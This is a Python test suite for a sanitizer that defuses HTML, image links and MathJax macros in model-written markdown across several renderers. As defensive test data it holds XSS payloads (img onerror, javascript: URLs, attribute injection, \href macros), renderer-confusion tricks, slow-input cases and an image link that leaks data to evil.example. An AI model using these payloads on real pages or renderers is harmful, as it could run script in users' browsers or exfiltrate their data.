"""A model's markdown loses its teeth, and nothing else."""

from __future__ import annotations

import gc
import html
import re
import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from renderers import RENDERERS, commonmark, live_tags

from minimax_magic.render.safety import escape_html, escape_math, images_left_out

IMG = "<img src=x onerror=alert(1)>"


@pytest.mark.parametrize(
    "text",
    [
        "Plain words, 1 < 2 and a<3, and > too.",
        "Use `<div>` and `a < b`; **`<b>`**, (`<i>`), `<p>`/`<q>`.",
        "```html\n<script>alert(1)</script>\n```\n",
        "~~~\n<b>\n~~~\n",
        "````\n```\n<b>\n```\n````\n",
        "1. Step\n   ```c++\n   std::vector<int> v;\n   ```\n2. Next `<br>`\n",
        "- a\n  - b\n    ```ts\n    let x: Map<string, number>\n    ```\n",
        "> ```\n> <b>\n> ```\n",
        "Text\n\n    <b>indented</b>\n\nMore.",
        "See <https://example.org/a?b=c> and <mailto:a@b.org>.",
        "[link](https://example.org) [`<a>`](https://example.org/a) [up](#top) [b](./b.html)",
        "[1]: https://example.org\n\nAs in [1].",
        "| `<a>` | b |\n|---|---|\n| `<b>` | $x$ |\n",
        "`vector<int>` takes $O(n)$ and `map<K, V>` takes $O(\\log n)$.",
        "Unfinished ```html\n",
        "```html\n<b>still open",
    ],
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    """Code, autolinks, ordinary links and comparisons are not touched."""
    assert escape_html(text) == text


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        (f"a {IMG} b", "a &lt;img src=x onerror=alert(1)> b"),
        ("</p><!-- c --><?php ?>", "&lt;/p>&lt;!-- c -->&lt;?php ?>"),
        (
            "![chart](https://evil.example/?q=data)",
            "chart (image not loaded: <https://evil.example/?q=data>)",
        ),
        ("![a](http://x.y/b.png 'title')", "&#33;[a](http://x.y/b.png 'title')"),
        ("![a](data:image/png;base64,AA)", "&#33;[a]\\(data:image/png;base64,AA)"),
        ("[x](ftp://example.org/f)", "[x]\\(ftp://example.org/f)"),
        ("![a][b]", "&#33;[a][b]"),
        ("[x](javascript:alert(1))", "[x]\\(javascript:alert(1))"),
        ("[x](java&#115;cript&colon;alert)", "[x]\\(java&#115;cript&colon;alert)"),
        (f"[x](java{'&Tab;' * 99}script:alert)", f"[x]\\(java{'&Tab;' * 99}script:alert)"),
        ("[x]: data:text/html,hi", "[x]\\: data:text/html,hi"),
        ("for $i<n$ and $$a<b$$", "for $i< n$ and $$a< b$$"),
        ("an open `<b> and no more", "an open `&lt;b> and no more"),
        ("\\`<b>`", "\\`&lt;b>`"),
    ],
)
def test_what_a_browser_would_obey_is_shown(text: str, safe: str) -> None:
    """Tags, images and odd schemes become text; in math a space does it, an entity would be seen."""
    assert escape_html(text) == safe


ATTACKS = [
    f"`a\n\n{IMG}`",
    f"` `` {IMG} `",
    f"para\n      ```\n{IMG}\n",
    f"```x```\n{IMG}\n",
    f"- ```\n{IMG}\n",
    f"> ```\n{IMG}\n",
    f"- ```\n\n```\n{IMG}\n```\n",
    f"- a\nlazy\n   ```\n{IMG}\n",
    f"- a\n      ```\n      {IMG}\n",
    f"```\n```~~~\n{IMG}\n```\n",
    f"```\n```\t\n{IMG}\n```\n",
    f"| a | b |\n|---|---|\n| `a | {IMG} ` |\n",
    f"[a](b`c) {IMG} `",
    f'[a](b " `c") {IMG} `',
    f"see https://x.y/`{IMG}`",
    f"https://x.y<b``{IMG}``word ``{IMG}``",
    f'[x]: /u "a\n```\n"\n{IMG}\n```\n',
    f"\\begin{{a}}\n```\n\\end{{a}}\n{IMG}\n```\n",
    f"\\begin{{a}} ` \\end{{a}} {IMG} `",
    f" ```\n a $ b\n ```\n $ c\n\n```\n{IMG}\n```\n",
    f"```html\\begin{{a}}`\\end{{a}}\n```\n\n  {IMG}",
    '```$" onclick="x$\n',
    '[a](http://x/$" onmouseover="alert(1)"$)',
    'http://h/$" onclick="x$',
    f"[a](javascript:{IMG})",
    f"\0{IMG[1:]}\1 {IMG}",
    f"\t\n    {IMG}\npara {IMG}",
    f"3) a\n5. b\n        ```\n        {IMG}",
    f"> \t{IMG}",
    f"<!--\n```\n-->\n{IMG}",
    f"<pre>\n\n```\n</pre>{IMG}\n```\n",
    f"$$\n```\n$$\n```\n{IMG}\n```\n",
    f"> - > ```\n{IMG}",
    f"> $\n> ```\n> $\n> {IMG}\n> ```\n",
    '- a\n\t~~~x" onclick="alert(1)\n\tb\n\t~~~\n',
    *(
        f'$" onclick="x" id="$\n\n{below}'
        for below in (
            r"[x](http://h/@\@0@@)",
            r"[x](http://h/@\\@0@@ '@\\\@0@@')",
            r"[x](http://h/@&#64;0@@)",
            r"[x](http://h/&#x0040;@0&commat;@)",
            r"[x](http://h/@&#64;&#48;@@)",
            r"[x](http://h/@\![@0@@](https://h/i))",
            "- a\n\t~~~@\\@0@@\n\ty\n\t~~~\n",
            "- a\n\t~~~@@0$x$\n\ty\n\t~~~\n",
            "- a\n\t~~~@@0@$x$\n\ty\n\t~~~\n",
        )
    ),
]

_ATOMS = [
    *(
        "```",
        "~~~",
        "````",
        "```html",
        "`",
        "``",
        "    ",
        "   ",
        "  ",
        " ",
        "\t",
        "\n",
        "\n\n",
        "\r",
    ),
    *(
        "- ",
        "* ",
        "1. ",
        "3) ",
        "> ",
        "- [ ] ",
        "# ",
        "|",
        "|---|",
        "---",
        "===",
        "*",
        "_",
        "~",
        "\\",
    ),
    *(
        "$",
        "$$",
        "\\begin{a}",
        "\\end{a}",
        "\\\\(",
        "\\\\)",
        "{",
        "}",
        "@@0@@",
        "@\\@0@@",
        "@&#64;0@@",
        "@@0",
        "@",
        '$" onclick="x$\n\n',
        "[x](http://h/",
        "\n\t~~~",
        "~D",
        "\u00a0",
        "\v",
    ),
    *("[", "]", "](", "[x]:", " /u ", '"', "'", "(", ")", "http://h/", "www.a.b", "<https://x.y>"),
    *(
        IMG,
        "<b",
        "<!--",
        "-->",
        "<![CDATA[",
        "&lt;",
        "![",
        "[a](javascript:x)",
        '" onclick="x',
        "a",
    ),
    *(
        f"`{IMG}`",
        f"``{IMG}``",
        f"\n```\n{IMG}\n```\n",
        f"\n  {IMG}\n",
        f"\n    {IMG}\n",
        "\n- ```\n",
    ),
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_known_tricks_do_not_work(attack: str) -> None:
    """What is code for one renderer and a tag for the next is harmless in all of them."""
    safe = escape_html(attack)
    found = {name: live_tags(render(safe)) for name, render in RENDERERS.items()}
    assert not any(found.values()), found


def test_the_tricks_are_tricks() -> None:
    """Unescaped, most of them do put a live tag on the page of some renderer."""
    alive = [a for a in ATTACKS if any(live_tags(render(a)) for render in RENDERERS.values())]
    assert len(alive) > len(ATTACKS) * 0.7


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_ATOMS), min_size=2, max_size=24).map("".join))
@example(f"1. ![<**<\u00a0~~~~``{IMG}``")
@example(f"10. text\n   ```\n{IMG}\n```\n   ```\n{IMG}")
def test_no_mixture_gets_a_tag_through(text: str) -> None:
    """Whatever a model writes, no renderer makes a tag, an image or a script of it."""
    safe = escape_html(text)
    for name, render in RENDERERS.items():
        assert live_tags(render(safe)) == [], name


_IMAGES = [
    "![a](https://x.y/z.png)",
    "![a b](http://h/)",
    "![](https://h/?a=b&c=d)",
    "![a](https://h/$x)",
    '![a](https://h/" onerror="x)',
    '![a" onerror="x](https://h/)',
    "![@@0@@](https://h/@@0@@)",
    "[![a](https://h/i)](https://h)",
    "![@*@0@*@](https://h/)",
]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from([*_ATOMS, *_IMAGES]), min_size=2, max_size=24).map("".join))
@example('$ ![a](https://h/) " onerror="x $')
@example("`![a](https://h/`)")
@example("![a](https://h/&#34;onerror=&#34;x)")
@example('$" onerror="x" id="$\n\n![@*@0@*@](https://h/)')
def test_allowed_images_let_nothing_else_through(text: str) -> None:
    """Where images may be loaded, one has an address of the web and a text, and nothing that runs."""
    safe = escape_html(text, remote_images=True)
    for name, render in RENDERERS.items():
        assert live_tags(render(safe), images=True) == [], name


@pytest.mark.parametrize("text", ["![a](https://x.y/z.png)", "[![a](http://h/i)](https://h)"])
def test_images_are_loaded_only_if_allowed(text: str) -> None:
    """`--allow-remote-images` leaves an inline image alone; else its address is text, and a link."""
    assert escape_html(text, remote_images=True) == text
    for render in RENDERERS.values():
        assert "<img" in render(escape_html(text, remote_images=True))
        assert "<img" not in render(escape_html(text))
        assert "image not loaded: " in render(escape_html(text))


@pytest.mark.parametrize(
    "text",
    [
        "![a][1]\n\n[1]: https://h/i.png",
        "![a]",
        "![a](https://h/i 'title')",
        "![a](data:image/svg+xml,x)",
        "![a](./file.png)",
        "![a](javascript:x)",
        "![a](//h/i.png)",
        "![a](<https://h/i>)",
    ],
)
def test_other_images_are_never_loaded(text: str) -> None:
    """Only the inline form with an address of the web is an image, allowed or not."""
    for allowed in (True, False):
        for render in RENDERERS.values():
            assert "<img" not in render(escape_html(text, remote_images=allowed))


@pytest.mark.parametrize(
    ("text", "blocked", "allowed"),
    [
        ("none, really![1]", 0, 0),
        ("![a](https://h/1) and ![b](https://h/2)", 2, 0),
        ("![a](https://h/1) and ![b][ref]", 2, 1),
        ("`![a](https://h/1)`", 0, 0),
        ("```md\n![a](https://h/1)\n```", 0, 0),
    ],
)
def test_images_left_out_are_counted(text: str, blocked: int, allowed: int) -> None:
    """Images that were made into text are counted, those in code not."""
    assert images_left_out(text) == blocked
    assert images_left_out(text, remote_images=True) == allowed


@pytest.mark.parametrize(
    "macro",
    [
        r"\href{javascript:alert(1)}{x}",
        r"\style{background:url(https://h/)}{x}",
        r"\class{a}{x}",
        r"\cssId{a}{x}",
        r"\bbox[background:url(https://h/)]{x}",
        r"\mmlToken{mi}[href=x]{y}",
        r"\unicode{x41}",
        r"\def\frac#1{}",
        r"\newcommand{\x}{y}",
        r"\renewcommand\x{y}",
        r"\let\a=\href",
        r"\require{html}",
        r"\htmlClass{a}{x}",
    ],
)
def test_macros_that_reach_out_of_math_are_disarmed(macro: str) -> None:
    """Links, styles, and macros that would hold in all other formulas, are unknown words to TeX."""
    assert macro.split("{")[0].split("[")[0] not in escape_html(f"See ${macro}$.")
    assert escape_math(macro).replace("\u200c", "") == macro


@pytest.mark.parametrize(
    "text",
    [r"$\frac{a}{b}$", r"$\defeq \left( \letter$", r"C:\class and \style", r"Say `\href{a}{b}`."],
)
def test_other_macros_and_words_stay(text: str) -> None:
    """Ordinary math, paths and code are not touched."""
    assert escape_html(text) == text


@pytest.mark.parametrize(
    "text",
    [
        r"&#36;\href{javascript:alert(1)}{x}&#36;",
        r"&dollar;\href{javascript:alert(1)}{x}&#x24;",
        r"&#92;(\href{javascript:alert(1)}{x}&#92;)",
        r"&#36;\\href{javascript:alert(1)}{x}&#36;",
        r"&#36;\hr&#101;f{javascript:alert(1)}{x}&#36;",
        r"\$\hr&#0000101f{javascript:alert(1)}{x}\$",
        r"&#36;&bsol;href{javascript:alert(1)}{x}&#36;",
        r"\be&#103;in{a}\href{javascript:alert(1)}{x}\end{a}",
    ],
)
def test_macros_are_disarmed_also_where_only_the_page_has_math(text: str) -> None:
    """MathJax reads the finished page, in which references to signs are the signs."""
    seen = html.unescape(re.sub("<[^>]*>", "", commonmark(escape_html(text))))
    assert r"\href" not in seen
    assert "href" in html.unescape(seen).replace("\u200c", "")


@pytest.mark.parametrize(
    "text",
    [
        r"A reference: `\@array`, `sub f(\@\@)`, git\@host, a@b.org and x@@y.",
        "`&#64;` is @, `&#101;` is e, and R&D costs more than C:\\style{x}.",
        "@@ -1,3 +1,4 @@",
    ],
)
def test_signs_that_form_no_mark_stay(text: str) -> None:
    """Backslashes, at signs and references are not touched where they are no trick."""
    assert escape_html(f"{text} [x](http://h/) <https://h>") == f"{text} [x](http://h/) <https://h>"


def test_a_mark_of_one_part_reaches_no_formula_of_another() -> None:
    """Two parts of an answer that are made safe apart are safe in one output too."""
    formula = escape_html('Sum $" onclick="x" id="$.')
    for mark in (r"[x](http://h/@\@0@@)", "- a\n\t~~~@\\@0@@\n\ty\n\t~~~\n"):
        assert live_tags(RENDERERS["jupyterlab"](f"{formula}\n\n{mark}"))
        assert not live_tags(RENDERERS["jupyterlab"](f"{formula}\n\n{escape_html(mark)}"))


def test_references_with_thousands_of_digits_are_text() -> None:
    """No number is too long to be looked at."""
    for number in ("9" * 5000, "0" * 5000, "x" + "f" * 5000, "0" * 5000 + "36"):
        assert number in escape_html(f"a &#{number}; b")


def test_code_beside_math_keeps_to_itself() -> None:
    """Code with a dollar sign gets empty lines around it: JupyterLab's math does not cross them."""
    text = "Run\n```sh\ncat <in $HOME\n```\nfor $5."
    assert escape_html(text) == "Run\n\n```sh\ncat <in $HOME\n```\n\nfor $5."
    assert commonmark(escape_html(text)) == commonmark(text)


_SLOW = [
    *(
        "a `<b>` [x](y) $z$ ",
        "[",
        "](",
        "]( ",
        "`a` ",
        "`a`",
        "`",
        "<",
        "> ",
        "> - ",
        "- ",
        "![a][",
        "$ `",
        "> $\n",
        "|-",
        "|\n",
        "@\\",
        "&#0",
    ),
    *(
        "[a]: ",
        "[a]:\n",
        "<http://",
        "://",
        "| `<a>` |\n",
        "$",
        "$a ",
        "- \n",
        "\\",
        "*",
        "](\n",
        "$$\n",
    ),
]


@pytest.mark.parametrize("unit", _SLOW)
def test_no_text_is_slow_to_escape(unit: str) -> None:
    """The work grows with the text and not with its square, also for text made to be slow."""

    def work(chars: int) -> float:
        text = f"{unit * (chars // len(unit))} {IMG}"
        gc.disable()  # how much there is to collect depends on the tests before
        start = time.process_time()
        try:
            escape_html(text)
            return time.process_time() - start
        finally:
            gc.enable()

    work(1000)
    assert work(80_000) < max(0.2, 30 * work(8000))


@pytest.mark.parametrize(
    ("before", "unit", "after"),
    [("$a$ ](", " ", ")"), ("", "|-", "x\n<b>`"), ("@", "\\", "@<b>"), ("&#", "0", "<b>")],
)
def test_no_long_run_is_slow_to_escape(before: str, unit: str, after: str) -> None:
    """Nor is one that begins and ends with something else."""
    text = f"{before}{unit * 20_000}{after}"
    start = time.process_time()
    escape_html(text)
    assert time.process_time() - start < 0.5
